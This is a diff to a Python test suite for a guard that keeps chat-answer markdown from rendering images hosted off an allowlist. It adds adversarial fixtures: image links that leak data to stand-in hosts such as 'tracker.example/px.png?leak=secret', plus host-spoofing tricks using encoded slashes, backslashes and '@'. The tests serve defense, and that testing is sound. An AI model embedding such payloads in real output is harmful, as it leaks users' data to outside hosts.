@@ -19,6 +19,18 @@ GOOD = "https://p3-bot-sign.byteimg.com/a.png"
 BAD = "http://tracker.example/px.png?leak=secret"
 
 PIECES = [
+    "![x](http://evil.example&sol;.coze.cn/p.png)",
+    f"![`](https://coze.cn/a.png)`]({BAD})",
+    f"[x]: {BAD}\n![x](https://coze.cn/a.png junk)",
+    "```\n```js\n```\n",
+    f"<div>\n```\n</div>\n\n![p]({BAD})",
+    f"- a\n\n  ```\n![p]({BAD})",
+    "~~~\r~~~\n",
+    "![a](http://evil.example\\.coze.cn/x.png)",
+    "![a](https://coze.cn%2F@evil.example/x.png)",
+    f"![a\nb]({BAD})",
+    "!",
+    "[",
     f"![ok]({GOOD})",
     f"![p]({BAD})",
     f"![p](<{BAD}>)",
@@ -64,7 +76,7 @@ def test_only_http_addresses_on_allowed_hosts_pass(url, allowed):
 def test_a_tracking_pixel_becomes_a_link_and_an_allowed_image_stays():
     text = f"Look: ![p]({BAD}) and ![ok]({GOOD})."
     safe = guarded(text, HOSTS)
-    assert safe == f"Look: [p]({BAD}) and ![ok]({GOOD})."
+    assert safe == f"Look: \\![p]({BAD}) and ![ok]({GOOD})."  # "!" then a link
     assert rendered_images(safe) == [GOOD]
 
 
@@ -87,7 +99,7 @@ def test_no_image_from_another_host_is_ever_rendered_however_the_text_is_split(p
 
 
 def test_text_without_images_is_unchanged():
-    text = "Plain! text, `code!` and\n```\n![x](y)\n```\n中文！ ! [a] (b)\n"
+    text = "Plain! text, `code!` and\n```\nx = 1\n```\n中文！ ! [a] (b) $x$\n"
     assert guarded(text, HOSTS) == text
 
 
@@ -100,8 +112,8 @@ def test_the_answer_model_guards_the_answer_and_the_reasoning():
     changes += answer.finish()
     shown = "".join(c.text for c in changes if isinstance(c, AppendText))
     reasoning = "".join(c.text for c in changes if isinstance(c, AppendReasoning))
-    assert shown == f"pixel [p]({BAD}) chart ![ok]({GOOD})" == answer.shown
-    assert reasoning == f"see [r]({BAD})" == answer.reasoning
+    assert shown == f"pixel \\![p]({BAD}) chart ![ok]({GOOD})" == answer.shown
+    assert reasoning == f"see \\![r]({BAD})" == answer.reasoning
     assert not any(isinstance(c, Replace) for c in changes)
 
 
@@ -109,8 +121,8 @@ def test_coze_s_final_text_is_guarded_too():
     answer = AnswerStream(frame_seconds=0, image_hosts=HOSTS)
     answer.update([AnswerDelta("draft", "m"), AnswerCompleted(f"final ![p]({BAD})", "m")])
     answer.update([ChatCompleted(None)])
-    assert answer.finish() == [Replace(f"final [p]({BAD})")]
-    assert answer.blocks == [f"final [p]({BAD})"]
+    assert answer.finish() == [Replace(f"final \\![p]({BAD})")]
+    assert answer.blocks == [f"final \\![p]({BAD})"]
 
 
 def test_a_code_span_that_never_closes_does_not_let_an_image_through():
@@ -147,3 +159,21 @@ def test_the_answer_model_caps_formulas_and_says_so():
     turn = Turn("assistant")
     turn.keep(answer)
     assert turn.caption.startswith(FORMULAS_CAPPED_NOTE)
+
+
+_UNESCAPED_IMAGE = re.compile(r"(?<!\\)(?:\\\\)*!\[")
+
+
+@settings(max_examples=400, deadline=None)
+@given(parts=st.lists(st.sampled_from(PIECES), min_size=1, max_size=12))
+def test_every_image_left_is_a_plain_one_from_an_allowed_host(parts):
+    """Whatever renderer reads it: an unescaped "![" in the output always opens an image in
+    the plainest form, from an allowed host (the reviewer's micromark fuzz found 0 of 3,000)."""
+    from coze_answer._guard import _scan
+
+    out = guarded("".join(parts), HOSTS)
+    for match in _UNESCAPED_IMAGE.finditer(out):
+        start = match.end() - 2
+        address = _scan(out[start:])
+        assert isinstance(address, str), out[start : start + 80]
+        assert host_allowed(address, HOSTS), address
